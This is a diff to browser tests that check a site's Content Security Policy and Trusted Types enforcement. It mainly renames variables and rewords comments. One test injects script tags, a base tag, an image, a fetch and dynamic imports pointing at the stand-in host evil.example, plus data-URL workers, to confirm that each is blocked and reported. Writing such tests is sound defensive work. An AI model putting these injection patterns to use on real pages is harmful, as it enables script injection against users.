@@ -30,7 +30,7 @@ test('sign-in, generation, payment and upload cause no policy violations', async
   await uploadButton(page).click()
   await waitForUpload(page)
 
-  // Through client navigation, so that scripts are added to an open page.
+  // These links navigate in the browser, so their scripts are added to an open page.
   await page.getByRole('link', { name: 'Blog' }).first().click()
   await page.getByRole('article').getByRole('link').first().click()
   await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
@@ -60,7 +60,7 @@ test('actions against the policies are blocked and reported', async ({ page, con
   const policyViolations = await recordPolicyViolations(context)
   await goto(page, '/')
   await page.evaluate(() => {
-    const ignored = (task: () => void) => {
+    const ignoreErrors = (task: () => void) => {
       try {
         task()
       } catch {
@@ -68,10 +68,10 @@ test('actions against the policies are blocked and reported', async ({ page, con
       }
     }
     const add = (tag: string, attributes: Record<string, string>, text = '') => {
-      const made = document.createElement(tag)
-      for (const [name, value] of Object.entries(attributes)) ignored(() => made.setAttribute(name, value))
-      ignored(() => made.append(text))
-      document.body.append(made)
+      const element = document.createElement(tag)
+      for (const [name, value] of Object.entries(attributes)) ignoreErrors(() => element.setAttribute(name, value))
+      ignoreErrors(() => element.append(text))
+      document.body.append(element)
     }
     add('script', {}, 'window.ran = 1')
     add('script', { src: 'https://evil.example/x.js' })
@@ -80,20 +80,20 @@ test('actions against the policies are blocked and reported', async ({ page, con
     add('object', { data: '/favicon.svg' })
     add('base', { href: 'https://evil.example/' })
     add('img', { src: 'https://evil.example/x.png' })
-    ignored(() => (document.body.lastElementChild ?? document.body).insertAdjacentHTML('beforeend', '<b>x</b>'))
-    ignored(() => void new Worker('data:text/javascript,1'))
+    ignoreErrors(() => (document.body.lastElementChild ?? document.body).insertAdjacentHTML('beforeend', '<b>x</b>'))
+    ignoreErrors(() => void new Worker('data:text/javascript,1'))
     void fetch('https://evil.example/').catch(() => undefined)
-    // Only dynamic imports are not covered by trusted types.
-    for (const from of ['https://evil.example/x.js', 'data:text/javascript,window.ran=4'])
-      void import(from).catch(() => undefined)
+    // Trusted types cover all of the above, but not dynamic imports.
+    for (const url of ['https://evil.example/x.js', 'data:text/javascript,window.ran=4'])
+      void import(url).catch(() => undefined)
   })
-  const directivesIn = (messages: string[]) =>
-    messages.flatMap((one) => /: ([a-z-]+(?:-src(?:-\w+)?|-uri|-for)) /.exec(one)?.[1] ?? [])
-  const TRUSTED = 'require-trusted-types-for'
+  const parseDirectives = (messages: string[]) =>
+    messages.flatMap((message) => /: ([a-z-]+(?:-src(?:-\w+)?|-uri|-for)) /.exec(message)?.[1] ?? [])
+  const TRUSTED_TYPES = 'require-trusted-types-for'
   await expect
-    .poll(() => [...new Set(directivesIn(policyViolations))].sort())
-    .toEqual(['base-uri', 'connect-src', 'frame-src', 'img-src', 'object-src', TRUSTED, 'script-src-elem'])
-  const sinks = policyViolations.flatMap((one) => /trusted-types-sink ([^|]+)/.exec(one)?.[1] ?? [])
+    .poll(() => [...new Set(parseDirectives(policyViolations))].sort())
+    .toEqual(['base-uri', 'connect-src', 'frame-src', 'img-src', 'object-src', TRUSTED_TYPES, 'script-src-elem'])
+  const sinks = policyViolations.flatMap((violation) => /trusted-types-sink ([^|]+)/.exec(violation)?.[1] ?? [])
   expect(sinks).toEqual([
     'HTMLScriptElement src',
     'Element onclick',
